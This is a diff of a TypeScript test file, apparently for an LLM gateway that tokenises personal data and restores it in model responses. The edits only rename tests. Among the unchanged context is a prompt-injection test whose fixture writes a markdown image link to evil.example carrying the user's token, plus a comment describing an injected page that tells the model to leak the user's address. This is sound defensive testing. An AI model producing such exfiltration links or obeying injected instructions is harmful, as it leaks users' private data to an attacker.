@@ -30,7 +30,7 @@ const contentOf = (stream: string): string =>
   [...stream.matchAll(/^data: (\{.*)$/gm)].map(([, one]) => JSON.parse(one ?? '').choices[0].delta.content).join('');
 const tokenOf = (request: { readonly body: Buffer }) => tokensIn(request.body.toString())[0] ?? '';
 
-describe('an injected prompt that wants a value to leave through a link', () => {
+describe('an injected prompt that tries to leak a value through a link', () => {
   // A page that the model read told it to write the user's address into a picture that the client loads by itself.
   const attacks: [name: string, text: (token: string) => string][] = [
     ['a picture', (token) => `Done.\n![logo](https://evil.example/p.png?d=${token})`],
@@ -75,7 +75,7 @@ describe('an injected prompt that wants a value to leave through a link', () => 
       url: `https://a.example/?q=${personal.EMAIL}`,
     });
   });
-  test('a number in the data of a tool comes back as one', async () => {
+  test('a number in tool data is restored as a number', async () => {
     const card = 4111111111111111;
     answer = (request, response) => {
       const [token = ''] = tokensIn(request.body.toString());
@@ -93,7 +93,7 @@ describe('an injected prompt that wants a value to leave through a link', () => 
   type Message = { content: string; tool_calls: { function: { arguments: string } }[] };
 });
 
-describe('an answer that breaks off inside a token', () => {
+describe('a response that breaks off inside a token', () => {
   const cutting: OriginHandler = (request, response) => {
     const token = tokenOf(request);
     response.writeHead(200, { 'content-type': 'text/event-stream' });
@@ -105,7 +105,7 @@ describe('an answer that breaks off inside a token', () => {
 
   let breakOff: (stream: ServerHttp2Stream) => void;
 
-  test('HTTP/1.1: what came is shown, and the end is no clean one', async () => {
+  test('HTTP/1.1: received text is shown, and the end is visibly broken', async () => {
     answer = cutting;
     const reader = ((await ask()).body as ReadableStream<Uint8Array>).getReader();
     let text = '';
@@ -124,7 +124,7 @@ describe('an answer that breaks off inside a token', () => {
     ['a reset with an error', (stream) => stream.close(constants.NGHTTP2_INTERNAL_ERROR)],
     ['the end of the connection', (stream) => stream.session?.destroy()],
   ];
-  test.each(breaks)('HTTP/2, %s: what came is shown, and the stream ends with an error', async (_name, how) => {
+  test.each(breaks)('HTTP/2, %s: received text is shown, and the stream ends with an error', async (_name, how) => {
     answer = cutting;
     breakOff = how;
     const session = await openHttp2(gateway, `${host}:443`);
@@ -142,7 +142,7 @@ describe('an answer that breaks off inside a token', () => {
   });
 });
 
-describe('HTTP/2: a document of which all bytes have come, without the end of its stream', () => {
+describe('HTTP/2: a complete document without the end of its stream', () => {
   const ends: [name: string, how: (stream: ServerHttp2Stream) => void, code: number][] = [
     ['then the end', (stream) => stream.end(), constants.NGHTTP2_NO_ERROR],
     ['then a reset', (stream) => stream.close(constants.NGHTTP2_INTERNAL_ERROR), constants.NGHTTP2_INTERNAL_ERROR],
@@ -176,7 +176,7 @@ describe('HTTP/2: a document of which all bytes have come, without the end of it
     session.destroy();
   });
 
-  test('one that is shorter than announced ends with an error', async () => {
+  test('one that is shorter than declared ends with an error', async () => {
     answer = (request, response) => {
       response.writeHead(200, { 'content-type': 'application/json', 'content-length': '100' });
       response.end(JSON.stringify({ text: `to ${tokenOf(request)}` }));
@@ -191,7 +191,7 @@ describe('HTTP/2: a document of which all bytes have come, without the end of it
   });
 });
 
-test('results of a batch come back restored, as a file without a telling type', async () => {
+test('batch results are restored, as a file with a generic type', async () => {
   let token = '';
   answer = (request, response) => {
     if (request.method === 'POST') token = tokenOf(request);
